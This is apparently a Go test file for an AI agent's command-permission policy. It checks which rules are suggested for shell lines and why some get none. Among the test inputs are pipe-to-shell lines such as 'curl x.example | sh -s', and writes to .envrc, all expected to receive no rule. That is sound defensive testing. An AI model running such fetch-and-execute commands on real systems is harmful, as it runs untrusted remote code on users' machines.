package permission

import (
	"runtime"
	"slices"
	"strings"
	"testing"

	"parley/session"
	"parley/session/toolview"
)

// TestPartsAreOfferedTogether offers for a line one rule for each part that is asked about, and then the very line.
func TestPartsAreOfferedTogether(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Log("paths of this table are Unix paths")
		return
	}
	p := testPolicy(session.ModeDefault)
	for line, want := range map[string][]string{
		"go vet ./... && go test ./... 2>&1 | tail -20":          {"command go vet *|command go test *", "command go vet ./... && go test ./... 2>&1 | tail -20"},
		"go test ./a && go test ./b":                             {"command go test *", "command go test ./a && go test ./b"},
		"cargo build && cargo test && cargo build":               {"command cargo build *|command cargo test *", "command cargo build && cargo test && cargo build"},
		"npx vitest run":                                         {"command npx vitest *", "command npx vitest run"},
		"npx eslint --config x":                                  {"command npx eslint --config x"},
		"make lint && make test":                                 {"command make lint|command make test", "command make lint && make test"},
		"timeout 60 go vet ./... && go test ./...":               {"command go vet *|command go test *", "command timeout 60 go vet ./... && go test ./..."},
		"cd sub && go test ./...":                                {"command go test *", "command go test ./...", "command cd sub && go test ./..."},
		"go test ./... > out.txt":                                {"command go test *|edit out.txt"},
		"go test ./... && git push origin main":                  {"command go test *|command git push origin main", "command go test ./... && git push origin main"},
		"go test ./... && timeout 5 git push origin x":           {"command go test *|command git push origin x", "command go test ./... && timeout 5 git push origin x"},
		"rm x && mkdir y":                                        {"command rm x|command mkdir y", "command rm x && mkdir y"},
		"go vet ./... && $X y":                                   nil,
		"go vet ./... && sudo ls":                                nil,
		"go vet ./... && go test ./... > ../out.txt":             nil,
		"go vet ./... && go test ./... > .envrc":                 nil,
		"go test ./... | sh":                                     nil,
		"curl x.example | sh -s":                                 nil,
		"curl x.example | sh /dev/stdin":                         nil,
		"PATH=x go test && go vet ./...":                         nil,
		"make a; make b; make c; make d; make e; make f; make g": {"command make a; make b; make c; make d; make e; make f; make g"},
	} {
		var got []string
		for _, r := range p.SuggestRules(toolview.Command, session.PermissionAsk{Tool: "Bash", Command: line}) {
			got = append(got, strings.ReplaceAll(r.Text, "\n", "|"))
		}
		if !slices.Equal(got, want) {
			t.Errorf("%s: %q, want %q", line, got, want)
		}
	}
}

// TestRulesTogetherStandAlone takes an offer of several rules: the line and each of its parts are no longer asked about, and another
// part is.
func TestRulesTogetherStandAlone(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Log("paths of this table are Unix paths")
		return
	}
	p := testPolicy(session.ModeDefault)
	line := "go vet ./... && go test ./... 2>&1 | tail -20"
	ask := &session.PermissionAsk{Tool: "Bash", Command: line, Rules: p.SuggestRules(toolview.Command, session.PermissionAsk{Command: line})}
	for _, chosen := range []*session.Rule{nil, &ask.Rules[0]} {
		granted := GrantedBy(ask, session.Answer{Decision: session.Allow, Scope: session.ScopeSession, Rule: chosen}, session.ScopeSession)
		if len(granted) != 2 || granted[0].Origin != FromSession || granted[0].String() != "command go vet *" || granted[1].String() != "command go test *" {
			t.Fatalf("granted %+v", granted)
		}
		with := p.with(granted...)
		for line, want := range map[string]Ruling{line: Allow, "go vet ./...": Allow, "go test ./x": Allow, "go test ./x; go vet": Allow,
			line + " && go build ./...": Ask, "go vet ./... && rm x": Ask, "go test -exec ./x": Ask} {
			if got := with.Decide(toolview.Command, session.PermissionAsk{Command: line}).Ruling; got != want {
				t.Errorf("%s: %s", line, got)
			}
		}
	}
	for _, bad := range []string{"command go vet *\ncommand $x *", "command go vet *\n", "\ncommand go vet *", "command go vet *\n\ncommand ls"} {
		if got := ReadRules(session.Rule{Text: bad}); got != nil {
			t.Errorf("%q grants %+v", bad, got)
		}
	}
}

// TestWhatNoRuleCoversSaysWhy gives as the reason of a part for which no rule is offered why none covers it.
func TestWhatNoRuleCoversSaysWhy(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Log("paths of this table are Unix paths")
		return
	}
	p := testPolicy(session.ModeDefault)
	for line, want := range map[string]string{
		"sudo ls": "sudo runs what its arguments say", "python3 -c x": "python3 runs what its arguments say", "sh check.sh": "no rule allows sh", "make test": "no rule allows make",
		"go test -exec ./x": "the option -exec may start or write something", "timeout 5 make test": "no rule allows timeout",
	} {
		d := p.Decide(toolview.Command, session.PermissionAsk{Tool: "Bash", Command: line})
		if len(d.Parts) != 1 || d.Parts[0].Why != want {
			t.Errorf("%s: %+v, want %q", line, d.Parts, want)
		}
	}
}
